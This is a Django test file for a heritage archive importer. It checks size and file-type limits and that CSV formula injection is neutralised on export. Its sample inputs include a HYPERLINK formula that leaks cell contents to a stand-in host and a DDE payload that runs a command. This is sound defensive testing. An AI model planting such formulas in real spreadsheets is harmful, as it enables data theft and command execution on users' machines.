"""Hostile spreadsheets for import_records, and formulas that must not come back out live."""

import csv
import io
import json

from django.core.management.base import CommandError
from django.test import TestCase
from wagtail.models import Page

from heritage_archive.heritage.models import HeritageItemPage
from heritage_archive.importer.readers import MAX_DATA_ROWS, MAX_FILE_BYTES
from search.indexing import drain_outbox
from tests.importer.helpers import ImportFilesMixin
from tests.utils import build_site

HEADER = ["key", "title", "category", "listings", "summary"]
LISTING = "区级|第一批|2009"
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
]


class OversizedSpreadsheetTests(ImportFilesMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        build_site()

    def assert_refused(self, path, message):
        pages_before = Page.objects.count()
        with self.assertRaisesMessage(CommandError, message):
            self.run_import("heritage", path)
        self.assertEqual(Page.objects.count(), pages_before)

    def rows(self, count):
        return [HEADER] + [[f"Ⅴ-{n}", f"项目{n}", "曲艺", LISTING, ""] for n in range(1, count + 1)]

    def test_too_many_csv_rows(self):
        path = self.write_csv(self.rows(MAX_DATA_ROWS + 1))
        self.assert_refused(path, "上限为 10,000 行")

    def test_too_many_xlsx_rows(self):
        path = self.write_xlsx(self.rows(MAX_DATA_ROWS + 1))
        self.assert_refused(path, "上限为 10,000 行")

    def test_too_many_bytes(self):
        path = self.folder / "huge.csv"
        with path.open("wb") as file:
            file.write(",".join(HEADER).encode() + b"\n")
            file.write(b"x" * MAX_FILE_BYTES)
        self.assert_refused(path, "文件太大")

    def test_file_at_the_row_limit_is_read(self):
        # The limit refuses only what is over it: a dry run of exactly the maximum works.
        path = self.write_csv(self.rows(MAX_DATA_ROWS))
        stdout, _stderr = self.run_import("heritage", path, "--dry-run")
        self.assertIn("10000", stdout.replace(",", ""))
        self.assertFalse(HeritageItemPage.objects.exists())

    def test_zero_byte_and_binary_files(self):
        for name, data, message in [
            ("empty.csv", b"", "文件是空的"),
            ("setup.csv", b"MZ\x90\x00\xff\xfe\x00", "不是 UTF-8"),
            ("fake.xlsx", b"PK\x03\x04 not really a zip", "无法读取 XLSX"),
            ("photo.jpg", b"\xff\xd8\xff", "不支持的文件类型"),
        ]:
            with self.subTest(name):
                path = self.folder / name
                path.write_bytes(data)
                self.assert_refused(path, message)


class FormulaInjectionTests(ImportFilesMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        build_site()

    def test_formulas_imported_are_exported_as_text(self):
        rows = [HEADER] + [
            [f"Ⅴ-{n}", formula, "曲艺", LISTING, formula]
            for n, formula in enumerate(FORMULAS, start=1)
        ]
        self.run_import("heritage", self.write_csv(rows))
        # The archive keeps exactly what the curator typed.
        self.assertEqual(
            sorted(HeritageItemPage.objects.values_list("title", flat=True)), sorted(FORMULAS)
        )
        drain_outbox()

        response = self.client.get("/api/search/export.csv")
        self.assertEqual(response.status_code, 200)
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        exported = list(csv.DictReader(io.StringIO(text)))
        self.assertEqual(len(exported), len(FORMULAS))
        for row in exported:
            for column, value in row.items():
                with self.subTest(column=column, value=value):
                    self.assertFalse(value.startswith(("=", "+", "-", "@", "\t", "\r")))
        self.assertEqual(
            sorted(row["title"] for row in exported), sorted("'" + f for f in FORMULAS)
        )

        # JSON is data, not a spreadsheet: the text comes back unchanged there.
        response = self.client.get("/api/search/export.json")
        rows = json.loads(b"".join(response.streaming_content))
        titles = sorted(row["title"] for row in rows)
        self.assertEqual(titles, sorted(FORMULAS))
